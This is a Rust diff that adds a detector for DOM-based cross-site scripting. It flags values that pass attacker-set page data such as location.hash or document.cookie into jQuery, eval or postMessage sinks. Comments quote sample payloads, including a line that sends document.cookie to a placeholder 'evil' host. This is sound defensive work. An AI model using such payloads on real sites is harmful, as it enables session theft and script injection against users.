@@ -1816,6 +1816,119 @@ pub(super) fn joins_statement_words(w: &[u8]) -> bool {
         )
 }
 
+/// Page data an attacker sets from outside (the URL fragment and query, the window name a
+/// framing page chose, the cookie), each with whether a bare name may stand for it (`name`
+/// is `window.name` in a browser script, but too common a word to count before `$(`).
+const PAGE_SOURCES: [(&[u8], bool); 7] = [
+    (b"location.hash", true),
+    (b"location.search", true),
+    (b"location.href", false),
+    (b"document.cookie", true),
+    (b"document.referrer", true),
+    (b"window.name", true),
+    (b"name", false),
+];
+
+/// Characters looked back from a source for the call it is an argument of.
+const SOURCE_CALL_REACH: usize = 128;
+
+/// Occurrences of sources examined per value by [`source_into_sink`].
+const MAX_SOURCES: usize = 16;
+
+/// `$('body').html(location.hash.slice(1))`, `Function(name)()`, `postMessage(document.cookie,'*')`:
+/// data the attacker sets from outside the page handed straight to a call that parses it as
+/// markup (jQuery's `$()`/`.html()`/`.append()`), compiles it as code (`Function`, `eval`), or
+/// sends it off the page (`.send()`, `postMessage`, `sendBeacon`). The call is the innermost
+/// one whose parentheses hold the source. The same calls with the page's own values
+/// (`$('#id').hide()`, `.html(content)`), the sources read into harmless calls
+/// (`console.log(document.cookie)`, `encodeURIComponent(location.href)`) and Make's `$(name)`
+/// move nothing from the attacker into a sink.
+pub fn source_into_sink(s: &str) -> bool {
+    let b = s.as_bytes();
+    let mut seen = 0;
+    for &(src, strong) in &PAGE_SOURCES {
+        let mut from = 0;
+        while let Some(p) = memchr::memmem::find(&b[from..], src).map(|p| p + from) {
+            from = p + 1;
+            seen += 1;
+            if seen > MAX_SOURCES {
+                return false;
+            }
+            let end = p + src.len();
+            let before_ok = p == 0 || !is_ident(b[p - 1]);
+            if !before_ok || b.get(end).is_some_and(|&c| is_ident(c)) {
+                continue;
+            }
+            // (a bare `name` counts only as the whole argument of a code sink)
+            let bare = src == b"name";
+            if bare && (p >= 1 && b[p - 1] == b'.' || b.get(end) != Some(&b')')) {
+                continue;
+            }
+            // decoding calls hand the attacker's text on unchanged in meaning
+            let mut at = p;
+            let mut callee = None;
+            for _ in 0..4 {
+                callee = enclosing_callee(b, at);
+                match callee {
+                    Some((b"decodeURIComponent" | b"decodeURI" | b"unescape" | b"atob", st)) => {
+                        at = st;
+                    }
+                    _ => break,
+                }
+            }
+            let Some((callee, _)) = callee else {
+                continue;
+            };
+            let code = matches!(
+                callee,
+                b"Function" | b"eval" | b"setTimeout" | b"setInterval" | b"execScript"
+            );
+            let markup_or_out = matches!(
+                callee,
+                b"$" | b"jQuery"
+                    | b"html"
+                    | b"append"
+                    | b"prepend"
+                    | b"after"
+                    | b"before"
+                    | b"replaceWith"
+                    | b"send"
+                    | b"postMessage"
+                    | b"sendBeacon"
+            );
+            if code || (markup_or_out && (strong || !bare)) {
+                return true;
+            }
+        }
+    }
+    false
+}
+
+/// The last name of the callee whose argument list holds byte `p` of `b` innermost (`html`
+/// in `$('b').html(x.slice(1))` for `x`) and where that name starts, looking back at most [`SOURCE_CALL_REACH`] bytes.
+fn enclosing_callee(b: &[u8], p: usize) -> Option<(&[u8], usize)> {
+    let lo = p.saturating_sub(SOURCE_CALL_REACH);
+    let mut depth = 0usize;
+    let mut k = p;
+    while k > lo {
+        k -= 1;
+        match b[k] {
+            b')' => depth += 1,
+            b'(' if depth > 0 => depth -= 1,
+            b'(' => {
+                let e = b[..k].trim_ascii_end().len();
+                let mut st = e;
+                while st > 0 && is_ident(b[st - 1]) && e - st < 32 {
+                    st -= 1;
+                }
+                return (st < e).then(|| (&b[st..e], st));
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
 /// The value is itself a script call through a sink: `alert(1)`, `alert`1``,
 /// `document.location='//evil/'+document.cookie`, `top['al'+'ert'](1)`.
 /// `m`: the byte classes of `s` ([`super::classes`]).
